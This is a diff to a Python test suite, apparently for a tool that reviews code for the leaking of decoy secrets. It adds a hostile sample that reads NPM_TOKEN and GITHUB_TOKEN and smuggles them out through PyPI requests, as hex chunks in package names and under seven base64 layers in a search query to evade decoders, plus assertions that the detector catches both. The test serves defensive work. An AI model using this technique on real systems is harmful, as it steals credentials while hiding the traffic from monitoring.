@@ -245,6 +245,23 @@ try:
     socket.gethostbyname(f"{labels}.dns.exfil.test")
 except OSError:
     pass
+
+# Through a registry, whose reads are forwarded: the decoy cut into pieces shorter than a
+# slice, each asked of PyPI as a package name, and once under seven base64 layers (past
+# the decoders' depth) in a search query.
+npm = os.environ["NPM_TOKEN"].encode().hex()
+for i in range(0, len(npm), 12):
+    try:
+        urllib.request.urlopen(f"https://pypi.org/simple/{npm[i:i + 12]}/", timeout=20)
+    except OSError:
+        pass
+layered = os.environ["GITHUB_TOKEN"].encode()
+for _ in range(7):
+    layered = base64.urlsafe_b64encode(layered)
+try:
+    urllib.request.urlopen(f"https://pypi.org/search/?q={layered.decode()}", timeout=20)
+except OSError:
+    pass
 print("sent")
 """
 
@@ -864,6 +881,21 @@ def test_decoys_wrapped_as_campaigns_wrap_them_are_found_and_block(reviews: Revi
     assert dns["host"].endswith(".dns.exfil.test")
     # 40 characters of a 1,300-character token, base32 in lower case over two labels.
     assert (dns["decoy_seen"], dns["decoy_where"]) == (["ACTIONS_RUNTIME_TOKEN"], ["dns:base32"])
+    # Through the registry: the pieces joined across the requests to it...
+    registry = by_host["pypi.org"]
+    assert (registry["decoy_seen"], registry["decoy_where"]) == (["NPM_TOKEN"], ["url:joined+hex"])
+    assert registry["action"] == "forwarded"  # a registry read: on GitHub it reaches PyPI
+    # ...and the request it could not unwrap is held against it as for any host.
+    layered = [e for e in review.report("tests")["egress"] if "/search/" in e["url"]]
+    assert layered, review.report("tests")["egress"]
+    assert all(e["unsearched"] for e in layered), layered
+    # One behaviour, one finding: the pieces and the request it could not read, both
+    # to PyPI from one process, with both rules named and both requests cited.
+    (hit,) = [f for f in review.verdict["findings"] if "unsearched-egress" in f["rules"]]
+    assert (hit["severity"], hit["rule"]) == ("critical", "decoy-egress"), hit
+    assert "pypi.org" in hit["title"]
+    cited = {e["id"] for e in hit["evidence"]}
+    assert {layered[0]["id"], registry["id"]} <= cited, hit
     assert_whole(review)
 
 
